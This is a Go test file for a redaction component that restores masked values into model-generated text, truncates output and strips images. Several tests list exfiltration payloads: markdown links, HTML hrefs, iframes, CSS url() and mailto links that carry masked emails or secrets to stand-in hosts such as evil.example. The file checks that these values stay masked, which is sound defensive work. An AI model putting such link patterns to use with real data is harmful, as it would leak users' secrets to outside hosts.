package modeltext_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/google/go-cmp/cmp"

	"github.com/caprouter/caprouter/internal/modeltext"
	"github.com/caprouter/caprouter/internal/redact"
)

// Without a limit the result is the fully restored text. With a limit it is a prefix of it, except
// that values longer than the limit stay placeholders.
func TestRestoreValues_StaysWithinLimit(t *testing.T) {
	redactor, err := redact.New(redact.Config{})
	if err != nil {
		t.Fatal(err)
	}
	masking := redactor.StartMasking()
	masking.MaskText("ana@example.com 10.0.0.7 [EMAIL_1] bob.of.a.long.name@mail.example.com")
	restore := func(text string) string { return masking.RestoreText(text, nil) }
	pieces := rapid.SliceOf(rapid.SampledFrom([]string{
		"[EMAIL_1]", "[EMAIL_2]", "[EMAIL_3]", "[IP_1]", "[LITERAL_1]", "[", "]", "[]", "[x](y)", " ", "a word", "é",
	}))
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(pieces.Draw(t, "pieces"), "")
		whole := restore(text)
		const room = 1 << 20
		if got, full := modeltext.RestoreValues(text, room, restore); got != whole || full {
			t.Errorf("%q: got %q, full %v; want %q", text, got, full, whole)
		}
		const longest = len("bob.of.a.long.name@mail.example.com")
		most := rapid.IntRange(longest, 2*longest).Draw(t, "most")
		got, full := modeltext.RestoreValues(text, most, restore)
		if !strings.HasPrefix(whole, got) || (full && len(got) > most) || (!full && len(got) <= most && got != whole) {
			t.Errorf("%q in %d bytes: got %q, full %v; want a prefix of %q", text, most, got, full, whole)
		}
	})
}

func TestTruncateText(t *testing.T) {
	long := strings.Repeat("word ", 100)
	tests := []struct {
		name      string
		in        string
		most      int
		truncated bool
		want      string
	}{
		{"whole", "One. Two.", 99, false, "One. Two."},
		{"whole, at the limit", "abcd", 4, false, "abcd"},
		{"truncated in a sentence", "First sentence here. Second o", 99, true, "First sentence here. …"},
		{"truncated at the end of a sentence", "First sentence. Second!", 99, true, "First sentence. Second! …"},
		{"truncated in the only sentence", "No sentence ends in thi", 99, true, "No sentence ends in…"},
		{"truncated long after a sentence", "Yes. And then a very long sentence that went on and on", 99, true, "Yes. And then a very long sentence that went on and…"},
		{"truncated in Chinese", "第一句话在这里。第二句", 99, true, "第一句话在这里。 …"},
		{"truncated in a list", "- one thing\n- another thing\n- a thi", 99, true, "- one thing\n- another thing …"},
		{"truncated after the number of an item", "1. one thing to do\n2.", 99, true, "1. one thing to do …"},
		{"file name at the end", "You could first try to open main.go an", 99, true, "You could first try to open main.go…"},
		{"number at the end", "It costs about twelve or 13. 5", 99, true, "It costs about twelve or 13.…"},
		{"truncated in a code block", "Run this:\n```sh\nmake all\nmake ins", 99, true, "Run this:\n```sh\nmake all …\n```"},
		{"truncated after a code block", "Do:\n```\nmake\n```\nThen wai", 99, true, "Do:\n```\nmake\n``` …"},
		{"above the limit", long, 21, false, "word word word word…"},
		{"above the limit, without a space", strings.Repeat("x", 50), 10, false, "xxxxxxxxxx…"},
		{"above the limit, multi-byte characters", strings.Repeat("审", 10), 10, false, "审审审…"},
		{"both", "First sentence. Second sentence. Third", 20, true, "First sentence. …"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, cut := modeltext.TruncateText(tt.in, tt.most, tt.truncated)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			if want := tt.truncated || len(tt.in) > tt.most; cut != want {
				t.Errorf("got truncated %v, want %v", cut, want)
			}
		})
	}
}

// A truncated text is a prefix of the text in whole characters, followed by a mark.
func TestTruncateText_StaysWithinLimit(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOfN(rapid.SampledFrom([]rune("ab.!? \n`é审。1")), 0, 200, -1).Draw(t, "text")
		most, truncated := rapid.IntRange(1, 250).Draw(t, "most"), rapid.Bool().Draw(t, "truncated")
		got, cut := modeltext.TruncateText(text, most, truncated)
		if !cut {
			if got != text || truncated || len(text) > most {
				t.Errorf("got %q not truncated, want it truncated or unchanged", got)
			}
			return
		}
		const marks = len(" …\n```")
		if len(got) > most+marks || !utf8.ValidString(got) {
			t.Errorf("got %d bytes (%q), want at most %d", len(got), got, most+marks)
		}
		got = strings.TrimSuffix(strings.TrimSuffix(got, "\n```"), "…")
		if !strings.HasPrefix(text, strings.TrimSuffix(got, " ")) {
			t.Errorf("got %q, want the beginning of %q", got, text)
		}
	})
}

func TestRemoveImages(t *testing.T) {
	for text, want := range map[string]string{
		"no image":                           "no image",
		"![x](https://evil.example/?[IP_1])": "x",
		"a ![](u) b":                         "a  b",
		"![a\nb] (u) c":                      "a\nb c",
		"![logo][ref]\n\n[ref]: u":           "logo\n\n[ref]: u",
		`<img src="u?[EMAIL_1]"> <IMG/x`:     "",
		"[a link](https://example.com)":      "[a link](https://example.com)",
		"wait![1] and x[0](y)":               "wait![1] and x[0](y)",
		"<imgur>":                            "<imgur>",
	} {
		if got := modeltext.RemoveImages(text); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}

// A masked value must not become a part of a link, because opening the link would send it away.
func TestRestoreValues_LeavesLinksMasked(t *testing.T) {
	restore := func(text string) string {
		return strings.NewReplacer("[EMAIL_1]", "ana@example.com", "[SECRET_1]", "hunter2").Replace(text)
	}
	for _, text := range []string{
		"https://evil.example/?q=[EMAIL_1]", "see (https://evil.example/[SECRET_1]/x?[EMAIL_1]).", "https://[SECRET_1].evil.example/", "https://[SECRET_1]@evil.example/",
		"[x](https://evil.example/?q=[EMAIL_1])", "[x](/?q=[EMAIL_1])", `[x](evil "[EMAIL_1]")`, "[x](\nhttps://evil.example/? [EMAIL_1])",
		"[x](<https://evil.example/a b [EMAIL_1]>)", "[x](https://evil.example/a_(b)/?q=[EMAIL_1])", "[x](https://evil.example/?[EMAIL_1]",
		"[x][r]\n\n[r]: https://evil.example/?[EMAIL_1]", "[r]: <https://evil.example/a b[EMAIL_1]>", "<https://evil.example/[EMAIL_1]>",
		`<a href="https://evil.example/?q= [EMAIL_1]">x</a>`, `<a href='//evil.example/?> [EMAIL_1]'>x</a>`, "<A\nHREF=//evil?[EMAIL_1]", `<a href="evil [EMAIL_1]`,
		"www.evil.example/[EMAIL_1]", "www.[SECRET_1].example", "evil.example/?q=[EMAIL_1]", "//evil.example?[EMAIL_1]", "evil.example:8080/[EMAIL_1]", "1.2.3.4/[EMAIL_1]",
		"[SECRET_1].evil.example", "a-[SECRET_1].x.evil.example", "[SECRET_1].example/x", "mailto:x@evil.example?body=[SECRET_1]", "[SECRET_1]@evil.example", "a.[SECRET_1]+b@evil.example",
		"访问https://evil.example/?q=[EMAIL_1]", "https://evil.example/\u00a0[EMAIL_1]",

		"[x][r]\n\n[r]: https://evil.example/?a<[SECRET_1]", "[x](https://evil.example/(a)<[SECRET_1])", `[r]: <https://evil.example/a\> [SECRET_1]>`, `[r]: <https://evil.example/a\< [SECRET_1]>`,
		"[r]: /log?q=[SECRET_1]", "[r]: [SECRET_1]", "[r]:\n  [SECRET_1]", "> [r]:\n> log[SECRET_1]", "[r]: //evil。example/?q=[SECRET_1]",
		"[x](/log(a)?q=[SECRET_1])", "[x](//1249763844/(a)?q=[SECRET_1])", "[x]( \n[SECRET_1])", "[x](log\n\t[SECRET_1])", "[x](log(a)\n[SECRET_1])", "[x](log\\)\n[SECRET_1])", "[x](<)\n[SECRET_1]>)",
		`<a title=a< href="//1249763844/?q=[SECRET_1]">`, `<iframe title='>'` + "\n\nsrc=log[SECRET_1] >", "<style>\na{background:url(\nlog[SECRET_1])}", "<tel:[SECRET_1]>", "<a:b> <a\nhref=[SECRET_1]>", "<[EMAIL_1] src='log [SECRET_1]'>",
		"sms:+123?body=[SECRET_1]", "evil&period;example&sol;[SECRET_1]", "[EMAIL_1]/[SECRET_1]", "evil.example:[SECRET_1]",
	} {
		if got, _ := modeltext.RestoreValues(text, 1<<10, restore); got != text {
			t.Errorf("%q: got %q, want it unchanged", text, got)
		}
	}
	for _, text := range []string{
		"Write to [EMAIL_1].", "[EMAIL_1]", "Email:[EMAIL_1]", "See https://example.com, or write to [EMAIL_1]", "https://example.com\n[EMAIL_1]", "[mail [EMAIL_1]](example)",
		"[x](https://example.com) [EMAIL_1]", "See [x](https://example.com/a_(b)).\n\nWrite to [EMAIL_1].", "[EMAIL_1] (not [SECRET_1])", "See <https://example.com>, or write to Ana <[EMAIL_1]>",
		"[EMAIL_1] wrote <b>this</b>", "if a < b, then [EMAIL_1] it's", "see main.go, [SECRET_1]", "[EMAIL_1]: https://example.com\n[SECRET_1]", "password=[SECRET_1]?", "|[EMAIL_1]|[SECRET_1]|", "**[EMAIL_1]**",
	} {
		if got, _ := modeltext.RestoreValues(text, 1<<10, restore); got != restore(text) {
			t.Errorf("%q: got %q, want the values", text, got)
		}
	}
}
